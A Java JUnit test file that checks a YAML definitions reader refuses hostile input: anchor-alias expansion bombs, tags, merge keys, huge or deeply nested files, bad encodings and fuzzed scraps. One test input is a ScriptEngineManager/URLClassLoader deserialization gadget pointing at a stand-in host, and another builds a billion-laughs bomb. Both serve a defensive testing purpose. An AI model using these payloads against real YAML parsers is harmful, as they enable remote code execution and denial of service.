package io.bascule.sessions.definition;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Files that want to grow, to make objects or to be taken for something else. */
class HostileYamlTest {
    private static final List<String> SCRAPS = List.of(
            "&a ",
            "*a",
            "!!java.net.URL ",
            "!x",
            "<<: ",
            "---\n",
            "...\n",
            "{",
            "}",
            "[",
            "]",
            ": ",
            "- ",
            "? ",
            "|\n",
            "\"",
            "'",
            "#",
            "%YAML 9.9\n",
            "\t",
            "\u0000",
            "\u0085",
            "\uFEFF",
            "type: object\n",
            "null",
            "~",
            "1e999",
            "0x10",
            "properties: ",
            "items: ");

    @Test
    void aBombOfAnchorsDoesNotGoOff() {
        StringBuilder bomb = new StringBuilder("a: &a [x,x,x,x,x,x,x,x,x]\n");
        for (char c = 'b'; c <= 'z'; c++) {
            char before = (char) (c - 1);
            bomb.append(c)
                    .append(": &")
                    .append(c)
                    .append(" [")
                    .append(("*" + before + ",").repeat(9))
                    .append("]\n");
        }
        assertOnly(
                Definitions.problems(bomb.toString()), "x.yaml line 1: anchors (&) and aliases (*) are not taken here");
    }

    @Test
    void aLongTextIsNotRepeatedByAliases() {
        String yaml = "title: &t " + "x".repeat(100_000) + "\nlist: [" + "*t,".repeat(40_000) + "]\n";
        assertOnly(Definitions.problems(yaml), "anchors (&) and aliases (*)");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "name: *nobody",
                "&x name: a",
                "name: &x a",
                "a: &a [*a]",
                "base: &b {title: x}\n<<: *b",
            })
    void anchorsAreRefused(String yaml) {
        assertTrue(Definitions.problems(yaml).get(0).contains("anchors (&) and aliases (*)"), yaml);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]",
                "!!java.lang.Thread {}",
                "name: !x y",
                "name: !!str 12",
                "!!map {name: a}",
            })
    void tagsAreRefused(String yaml) {
        assertOnly(Definitions.problems(yaml), "x.yaml line 1: tags (!) are not taken here");
    }

    @Test
    void aFileHoldsOneType() {
        assertOnly(Definitions.problems(Definitions.SMALL + "---\n" + Definitions.SMALL), "holds a second document");
        assertOnly(Definitions.problems(""), "is empty");
        assertOnly(Definitions.problems("# nothing\n"), "is empty");
        assertOnly(Definitions.problems("null"), "must hold name, title");
        assertOnly(Definitions.problems("just words"), "must hold name, title");
    }

    @Test
    void whatIsHugeOrDeepIsRefused() {
        assertOnly(Definitions.problems("#" + "x".repeat(SafeYaml.MAX_BYTES)), "is larger than 256 KiB");
        assertOnly(Definitions.problems("a: " + "[".repeat(100_000)), "x.yaml");
        assertOnly(
                Definitions.problems("a: " + "[".repeat(1_000) + "]".repeat(1_000)),
                "is not YAML that is accepted here");
        assertOnly(
                Definitions.problems("a: " + "{b: ".repeat(1_000) + "c" + "}".repeat(1_000)),
                "is not YAML that is accepted here");
    }

    @Test
    void whatIsNoTextIsRefused() {
        assertOnly(Definitions.problems(new byte[] {'a', ':', ' ', (byte) 0xFF, (byte) 0xFE}), "is not UTF-8");
        assertOnly(Definitions.problems("name: \u0000"), "is not YAML");
        assertOnly(Definitions.problems("name: \"unclosed\n"), "x.yaml line 2: is not YAML");
    }

    @Test
    void aNameThatIsThereTwiceIsRefused() {
        List<String> problems = Definitions.problems(Definitions.SMALL + "title: Other\n");
        assertOnly(problems, "title is there twice; keep one");
        problems = Definitions.problems(Definitions.SMALL.replace("title: {type: string}", "key: {type: string}"));
        assertTrue(problems.toString().contains("key is there twice; keep one"), problems.toString());
        problems = Definitions.problems(Definitions.SMALL.replace("{kind: off, words: 3}", "{kind: off, kind: on}"));
        assertTrue(problems.toString().contains("kind is there twice; keep one"), problems.toString());
    }

    @Test
    void namesAreShortTexts() {
        assertTrue(Definitions.problems("? [a, b]\n: c\n").toString().contains("a name must be a short text"));
        assertTrue(Definitions.problems("? {a: b}\n: c\n").toString().contains("a name must be a short text"));
        assertTrue(Definitions.problems("x".repeat(201) + ": c\n").toString().contains("a name must be a short text"));
    }

    @Test
    void complaintsAreBounded() {
        StringBuilder many = new StringBuilder();
        for (int i = 0; i < 5_000; i++) {
            many.append("field").append(i).append(": 1\n");
        }
        List<String> problems = Definitions.problems(many.toString());
        assertEquals(20, problems.size());
        assertTrue(problems.stream().allMatch(problem -> problem.length() < 500), problems.toString());
    }

    /** Whatever stands in a file, it is read or refused. */
    @Test
    void nothingElseComesOutOfAnyFile() {
        Random random = new Random(6);
        for (int round = 0; round < 2_000; round++) {
            StringBuilder yaml = new StringBuilder(Definitions.SMALL);
            for (int i = random.nextInt(4); i >= 0; i--) {
                String scrap = SCRAPS.get(random.nextInt(SCRAPS.size()));
                int at = random.nextInt(yaml.length());
                yaml.replace(at, Math.min(yaml.length(), at + random.nextInt(3)), scrap);
            }
            byte[] bytes = yaml.toString().getBytes(StandardCharsets.UTF_8);
            assertFalse(Definitions.problems(bytes).stream().anyMatch(String::isBlank));
        }
    }

    private static void assertOnly(List<String> problems, String said) {
        assertEquals(1, problems.size(), problems.toString());
        assertTrue(problems.get(0).contains(said), problems.toString());
    }
}
